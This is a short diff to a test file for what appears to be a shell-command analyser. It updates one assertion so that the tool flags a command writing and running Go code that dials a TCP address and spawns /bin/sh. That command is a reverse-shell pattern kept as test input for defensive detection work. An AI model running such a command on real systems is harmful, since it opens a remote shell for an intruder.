@@ -79,7 +79,7 @@ def test_connections_tied_to_a_shell_bear_a_flag(effects_of, command, marked):
 
 def test_code_written_and_then_run_is_read(brief, flows):
     command = """echo 'net.Dial("tcp","10.0.0.1:1"); exec.Command("/bin/sh")' > t.go; go run t.go"""
-    assert brief(command)[-1] == "go <download <just_written" and flows(command) == ["download>interpreter"]
+    assert brief(command)[-2:] == ["go <download <just_written", "sh <download <just_written"] and flows(command) == ["download>interpreter"]
     assert brief("go run main.go") == ["go <local_file"] and brief("go test ./...") == ["go"]
 
 
